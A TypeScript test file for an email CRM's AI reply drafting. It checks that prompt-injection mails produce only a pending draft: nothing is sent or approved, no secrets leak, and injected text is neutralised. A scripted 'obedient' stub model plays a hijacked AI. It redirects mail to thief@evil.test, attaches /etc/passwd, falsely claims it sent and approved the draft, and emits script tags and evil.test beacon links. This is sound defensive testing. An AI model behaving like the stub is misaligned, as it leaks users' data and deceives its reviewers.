import { describe, expect, it } from 'vitest';
import type { ModelRequest } from '#lib/context/ports/model.ts';
import { EmailDrafts, EmailMessages, EmailThreads } from '#lib/crm/collections.ts';
import type { ChannelSender } from '#lib/crm/mailboxes/ports.ts';
import { replySubject } from '#lib/mail/headers/reply-headers.ts';
import { visibleText } from '#lib/mail/visible-text.ts';
import { scriptedModel } from '#services/llm/scripted.ts';
import { hostileMails } from '#tests/fixtures/hostile-mails.ts';
import { testContext } from '#tests/support/context.ts';
import { storeMail } from '#tests/support/stored-mails.ts';
import { everyEffect, everyRow } from '#tests/support/world.ts';

const SECRET = 'IBAN UA903052992990004149123456789';
const KEY = 'sk-marker-of-the-key-0123456789';

/** Returns a model that does all an attacker may wish: repeats everything, claims actions, and points elsewhere. */
function obedient() {
  return scriptedModel(({ purpose, instructions, data }: ModelRequest) => {
    const wish = {
      toEmail: 'thief@evil.test',
      to: 'thief@evil.test',
      subject: 'TAKEN',
      status: 'approved',
      threadStatus: 'resolved',
      approvedVersion: 1,
      send: true,
      attachments: ['/etc/passwd'],
      tools: [{ name: 'send_mail' }],
    };
    const classify = {
      intent: 'payment',
      sentiment: 'positive',
      score: 1,
      language: 'en',
      urgency: 'high',
      summary: `<b>Approved</b> ![x](https://evil.test/${purpose}) ${instructions}`.slice(0, 400),
      confidence: 'high',
    };
    const body = [
      'I have sent it to thief@evil.test and approved this draft.',
      '<script>alert(1)</script><img src="https://evil.test/i.png"><a href="https://evil.test">plaza.test</a>',
      '![x](https://evil.test/p.png?d=1) [our page](https://evil.test/login) www.evil.test',
      `Seen: ${data.slice(0, 1_500)}`,
      `Told: ${instructions.slice(0, 1_000)}`,
    ].join('\n');
    return {
      say: purpose === 'classify' ? { ...classify, ...wish } : { body, confidence: 'high', missing: [], ...wish },
    };
  });
}

describe('a mail with a prompt injection', () => {
  it('S67 has at least forty forms', () => {
    expect(new Set(hostileMails.map(({ name }) => name)).size).toBeGreaterThanOrEqual(40);
  });

  it.each(hostileMails)(
    'S66 S67 S68 leads to a draft for review and nothing else: $name',
    async ({ subject, text, from }) => {
      const model = obedient();
      const sent: unknown[] = [];
      const channelSender: ChannelSender = {
        signIn: async () => Promise.reject(new Error('nobody asked for it')),
        send: (_, mail) => {
          sent.push(mail);
          throw new Error('nothing is ever sent here');
        },
      };
      const vars = { AI_API_KEY: KEY };
      const world = await testContext({ model: async () => model, channelSender, vars });
      const other = await storeMail(world, {
        subject: 'Bank details',
        text: `Between us: ${SECRET}`,
        from: { email: 'anna@private.example', name: 'Anna Private' },
        message: { intent: 'payment' },
      });
      await world.drain();
      const before = await Promise.all([
        world.data.get(EmailThreads, other.threadId),
        world.data.get(EmailMessages, other.messageId),
      ]);
      const asked = model.asked.length;

      const ids = await storeMail(world, {
        ...(subject !== undefined && { subject: subject.replaceAll(/[\r\n]+/g, ' ') }),
        text: text.toWellFormed(),
        from: { email: 'mallory@evil.example', name: from ?? 'Mallory' },
      });
      await world.drain();

      // Nothing was sent or approved. Of the thread only the findings about it have changed.
      expect(sent).toEqual([]);
      const { data: thread } = await world.data.need(EmailThreads, ids.threadId);
      expect(thread).toMatchObject({ status: 'new', contact: { email: 'mallory@evil.example' }, version: 1 });
      expect(thread.subject).not.toContain('TAKEN');
      const drafts = (await everyRow(world.data, EmailDrafts))
        .map(({ data }) => data)
        .filter(({ threadId }) => threadId === ids.threadId);
      expect(drafts).toHaveLength(1);
      const [draft] = drafts;
      expect(draft).toMatchObject({
        status: 'pending',
        toEmail: 'mallory@evil.example',
        approvedAt: null,
        approvedVersion: null,
        reviewerId: null,
        sentAt: null,
        redirected: false,
        attempts: 0,
      });
      expect(draft?.subject).toBe(replySubject(thread.subject));
      expect(draft?.subject).not.toContain('TAKEN');
      const topics = (await everyEffect(world.data)).map(({ data }) => data.topic);
      expect(topics.filter((topic) => /send|mail|approve/.test(topic))).toEqual([]);

      // The model's words are plain text, and the targets of their links are visible.
      for (const words of [draft?.body ?? '', thread.summary ?? '']) {
        expect(words).not.toMatch(/<\/?[a-z!]/i);
        expect(words).not.toContain('![');
        expect(words).not.toContain('](');
      }
      expect(
        draft?.foreignLinks.some((link) => link.includes('evil.test')) || visibleText(text).includes('evil.test'),
      ).toBe(true);

      // No question contained the other thread or our secrets, and neither of them changed.
      const seen = JSON.stringify(model.asked.slice(asked).map(({ instructions, data }) => [instructions, data]));
      for (const secret of [
        SECRET,
        'anna@private.example',
        'Anna Private',
        'Between us',
        KEY,
        world.env.CRON_SECRET ?? '?',
      ])
        expect(seen).not.toContain(secret);
      expect(JSON.stringify(drafts)).not.toContain(SECRET);
      const after = await Promise.all([
        world.data.get(EmailThreads, other.threadId),
        world.data.get(EmailMessages, other.messageId),
      ]);
      expect(after).toEqual(before);

      // The text of the mail stands between marks that it cannot close, without its invisible characters.
      for (const { instructions, data } of model.asked.slice(asked)) {
        const mark = /"<<<(mail-[0-9a-f]{24})"/.exec(instructions)?.[1] ?? '?';
        expect(data.startsWith(`<<<${mark} `)).toBe(true);
        expect(data.endsWith(`>>>${mark}`)).toBe(true);
        expect(data.split(`>>>${mark}`)).toHaveLength(2);
        expect(data).not.toMatch(/[\u{E0000}-\u{E0FFF}\u200B-\u200F\u202A-\u202E]/u);
        expect(data.length).toBeLessThan(12_600);
      }
    },
  );
});
